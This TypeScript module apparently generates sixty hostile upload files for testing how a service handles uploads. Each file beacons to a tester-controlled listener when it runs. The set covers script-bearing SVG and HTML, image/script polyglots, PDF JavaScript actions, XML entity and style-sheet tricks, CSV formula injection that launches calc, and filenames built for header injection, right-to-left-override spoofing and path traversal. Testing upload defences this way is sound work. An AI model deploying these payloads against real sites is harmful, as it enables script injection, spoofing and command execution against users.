import { deflateSync } from 'node:zlib';
import sharp from 'sharp';

/** A file as an attacker sends it. */
export interface HostileFile {
  /** Its place in the list, which its marks tell of. */
  readonly number: number;
  readonly what: string;
  readonly name: string;
  /** What the sender says that it is. */
  readonly type: string;
  readonly body: Buffer;
}

type Draft = readonly [what: string, name: string, type: string, body: string | Buffer];

/** Words of a script that shows, by every way there is, that it ran. `mark` is asked for by whatever runs or loads. */
const script = (mark: string): string =>
  [
    `new Image().src='${mark}/image'`,
    `try{fetch('${mark}/fetch',{mode:'no-cors'})}catch(e){}`,
    `try{top.postMessage('ran ${mark}','*')}catch(e){}`,
    `try{(opener||parent).postMessage('ran ${mark}','*')}catch(e){}`,
    `try{window.name='ran ${mark}';document.title='ran ${mark}'}catch(e){}`,
    `try{alert('ran ${mark}')}catch(e){}`,
  ].join(';');

const page = (mark: string): string =>
  `<!doctype html><html><head><title>a</title><link rel=stylesheet href="${mark}/css"></head>` +
  `<body onload="${script(mark)}"><img src="${mark}/img" onerror="${script(mark)}"><script>${script(mark)}</script></body></html>`;
const xml = '<?xml version="1.0" encoding="UTF-8"?>\n';
const svg = (inside: string, more = ''): string =>
  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="9" height="9"${more}>${inside}</svg>`;
const xhtml = (mark: string): string =>
  `<html xmlns="http://www.w3.org/1999/xhtml"><head><title>a</title></head><body><script>//<![CDATA[\n${script(mark)}\n//]]></script></body></html>`;

function pdf(mark: string, action: string): Buffer {
  const stream = deflateSync(Buffer.from('BT ET'));
  return Buffer.concat([
    Buffer.from(
      `%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction ${action.replaceAll('MARK', mark)}>>endobj\n` +
        '2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Contents 4 0 R>>endobj\n' +
        `4 0 obj<</Length ${String(stream.length)}/Filter/FlateDecode>>stream\n`,
    ),
    stream,
    Buffer.from('\nendstream endobj\ntrailer<</Root 1 0 R/Size 5>>\n%%EOF\n'),
  ]);
}

const wasm = Buffer.from([0, 0x61, 0x73, 0x6d, 1, 0, 0, 0]);
/** A GIF whose bytes are a script as well: its width is the beginning of a comment. */
const gifAndScript = (mark: string): Buffer =>
  Buffer.concat([Buffer.from('GIF89a/*'), Buffer.alloc(8), Buffer.from(`*/=1;${script(mark)};`)]);
const withBom = (text: string): Buffer => Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, 'utf16le')]);

/** Sixty files that want to run, each marked with an address of its own below `listener`. */
export async function hostileFiles(listener: string): Promise<readonly HostileFile[]> {
  const picture = { create: { width: 8, height: 8, channels: 3, background: '#336699' } } as const;
  const [jpeg, png, gif, webp] = await Promise.all([
    sharp(picture).jpeg().toBuffer(),
    sharp(picture).png().toBuffer(),
    sharp(picture).gif().toBuffer(),
    sharp(picture).webp().toBuffer(),
  ]);
  const after = (head: Buffer, tail: string): Buffer => Buffer.concat([head, Buffer.from(tail)]);
  const drafts: readonly ((mark: string) => Draft)[] = [
    (m) => ['SVG with a script', 'a.svg', 'image/svg+xml', svg(`<script>${script(m)}</script>`)],
    (m) => ['SVG with onload', 'b.svg', 'image/svg+xml', svg('', ` onload="${script(m)}"`)],
    (m) => [
      'SVG with a page in it',
      'c.svg',
      'image/svg+xml',
      svg(
        `<foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><iframe src="javascript:${script(m)}"/></body></foreignObject>`,
      ),
    ],
    (m) => ['SVG with a script from outside', 'd.svg', 'image/svg+xml', svg(`<script xlink:href="${m}/js"/>`)],
    (m) => ['SVG with a picture from outside', 'e.svg', 'image/svg+xml', svg(`<image href="${m}/img" width="9"/>`)],
    (m) => ['SVG with a style', 'f.svg', 'image/svg+xml', svg(`<style>@import url(${m}/css);</style>`)],
    (m) => [
      'SVG that animates an address',
      'g.svg',
      'image/svg+xml',
      svg(`<a><set attributeName="href" to="javascript:${script(m)}"/></a><animate onbegin="${script(m)}" dur="1s"/>`),
    ],
    (m) => [
      'SVG behind a document type with entities',
      'h.svg',
      'image/svg+xml',
      `${xml}<!DOCTYPE svg [<!ENTITY x SYSTEM "${m}/entity">]>${svg(`<text>&x;</text><script>${script(m)}</script>`)}`,
    ],
    (m) => ['SVG called JPEG', 'photo.jpg', 'image/jpeg', svg(`<script>${script(m)}</script>`)],
    (m) => [
      'SVG behind a long comment',
      'i.svg',
      'image/svg+xml',
      `<!--${'x'.repeat(9_000)}-->${svg('', ` onload="${script(m)}"`)}`,
    ],
    (m) => ['SVG in UTF-16', 'j.svg', 'image/svg+xml', withBom(`${svg(`<script>${script(m)}</script>`)}`)],
    (m) => ['a page', 'a.html', 'text/html', page(m)],
    (m) => ['a page called JPEG', 'photo2.jpg', 'image/jpeg', page(m)],
    (m) => ['a page called text', 'a.txt', 'text/plain', page(m)],
    (m) => ['a page called CSV', 'a.csv', 'text/csv', page(m)],
    (m) => ['a page of half a name', '.', 'text/html', page(m)],
    (m) => ['a page after spaces and a mark', 'b.html', 'text/html', `\uFEFF \n\t\n${page(m)}`],
    (m) => ['a page in UTF-16', 'c.html', 'text/html;charset=utf-16', withBom(page(m))],
    (m) => ['a page in UTF-7', 'd.html', 'text/html;charset=utf-7', `+ADw-script+AD4-${script(m)}+ADw-/script+AD4-`],
    (m) => ['a page after words', 'e.html', 'text/html', `Dear all, here it is: ${page(m)}`],
    (m) => ['a page after a kilobyte', 'f.html', 'text/html', `${'word '.repeat(300)}${page(m)}`],
    (m) => ['a page with a NUL', 'g.html', 'text/html', `\0${page(m)}`],
    (m) => ['a page after a comment', 'h.htm', 'text/html', `<!-- nothing -->${page(m)}`],
    (m) => [
      'a page that sends on',
      'i.html',
      'text/html',
      `<meta http-equiv=refresh content="0;url=${m}/on">${page(m)}`,
    ],
    (m) => ['XHTML', 'a.xhtml', 'application/xhtml+xml', `${xml}${xhtml(m)}`],
    (m) => ['XHTML called XML', 'a.xml', 'application/xml', xhtml(m)],
    (m) => [
      'XML with a style sheet in itself',
      'b.xml',
      'text/xml',
      `${xml}<?xml-stylesheet type="text/xsl" href="#s"?><!DOCTYPE d [<!ATTLIST xsl:stylesheet id ID #REQUIRED>]><d>` +
        `<xsl:stylesheet id="s" version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/">${xhtml(m)}</xsl:template></xsl:stylesheet></d>`,
    ],
    (m) => ['XML with a style sheet from outside', 'c.xml', 'text/xml', `${xml}<?xml-stylesheet href="${m}/css"?><d/>`],
    (m) => [
      'a feed with a page in it',
      'd.rss',
      'application/rss+xml',
      `${xml}<rss version="2.0"><channel>${xhtml(m)}</channel></rss>`,
    ],
    (m) => [
      'a MathML page',
      'a.mml',
      'application/mathml+xml',
      `<math xmlns="http://www.w3.org/1998/Math/MathML">${xhtml(m)}</math>`,
    ],
    (m) => ['GIF that is a script', 'a.gif', 'image/gif', gifAndScript(m)],
    (m) => ['GIF that is a script, called one', 'a.gif.js', 'text/javascript', gifAndScript(m)],
    (m) => ['GIF with a page behind it', 'b.gif', 'image/gif', after(gif, page(m))],
    (m) => ['JPEG with a page behind it', 'c.jpg', 'image/jpeg', after(jpeg, page(m))],
    (m) => ['JPEG with a page behind it, called one', 'c.jpg.html', 'text/html', after(jpeg, page(m))],
    (m) => ['PNG with a page behind it', 'd.png', 'text/html', after(png, page(m))],
    (m) => [
      'WebP with a drawing behind it',
      'e.webp',
      'image/svg+xml',
      after(webp, svg(`<script>${script(m)}</script>`)),
    ],
    (m) => ['the first bytes of a JPEG, then a page', 'f.jpg', 'text/html', after(jpeg.subarray(0, 12), page(m))],
    (m) => ['bitmap that is a script', 'g.bmp', 'text/javascript', `BM=1;${script(m)}`],
    (m) => [
      'PDF with a script',
      'a.pdf',
      'application/pdf',
      pdf(m, "<</S/JavaScript/JS(app.alert('ran'\\);this.submitForm('MARK/form'\\))>>"),
    ],
    (m) => ['PDF that opens an address', 'b.pdf', 'application/pdf', pdf(m, '<</S/URI/URI(MARK/uri)>>')],
    (m) => ['PDF with a page behind it', 'c.pdf', 'text/html', after(pdf(m, '[3 0 R/Fit]'), page(m))],
    (m) => ['words of a PDF, then a page', 'd.pdf.html', 'text/html', `%PDF-1.4 ${page(m)}`],
    (m) => ['a page called three things', 'e.jpg.php.html', 'image/png', page(m)],
    (m) => ['text as a browser would guess', 'f', '', `\n\n\n<scr\u200bipt>${page(m)}`],
    (m) => ['words with a page far on', 'g.unknown', 'unknown/unknown', `${'\n'.repeat(600)}${page(m)}`],
    (m) => ['type that is no type', 'h.txt', '*/*', page(m)],
    (m) => ['Flash', 'a.swf', 'application/x-shockwave-flash', `FWS\u0009${m}${'\0'.repeat(30)}`],
    (m) => [
      'MHTML',
      'a.mhtml',
      'multipart/related',
      `MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary="b"; type="text/html"\r\n\r\n--b\r\nContent-Type: text/html\r\n\r\n${page(m)}\r\n--b--`,
    ],
    (m) => ['an internet shortcut', 'a.url', 'application/internet-shortcut', `[InternetShortcut]\r\nURL=${m}/url\r\n`],
    (m) => ['an HTML application', 'a.hta', 'application/hta', `<hta:application id=a>${page(m)}`],
    (m) => ['a script', 'a.js', 'text/javascript', script(m)],
    (m) => ['a module', 'a.mjs', 'application/javascript', `${script(m)};export {}`],
    (m) => ['a style', 'a.css', 'text/css', `@import url(${m}/css);body{background:url(${m}/background)}`],
    () => ['WebAssembly', 'a.wasm', 'application/wasm', wasm],
    (m) => ['JSON with a page in it', 'a.json', 'text/html', JSON.stringify({ a: page(m) })],
    (m) => ['CSV with a formula', 'b.csv', 'text/csv', `a,b\n=WEBSERVICE("${m}/csv"),=cmd|'/c calc'!A0\n`],
    (m) => ['a name with quotes and lines', 'a";\r\nContent-Type: text/html\r\n\r\n<b>.js', 'text/html', script(m)],
    (m) => ['a name that reads backwards', 'invoice\u202Efdp.js', 'text/javascript', script(m)],
    (m) => [
      'a name that is a path',
      '..\\..\\../../etc/<img src=x onerror=alert(1)>.css',
      'text/css',
      `@import url(${m}/css);`,
    ],
  ];
  return drafts.map((draft, number) => {
    const [what, name, type, body] = draft(`${listener}/hit/${String(number)}`);
    return { number, what, name, type, body: typeof body === 'string' ? Buffer.from(body) : body };
  });
}
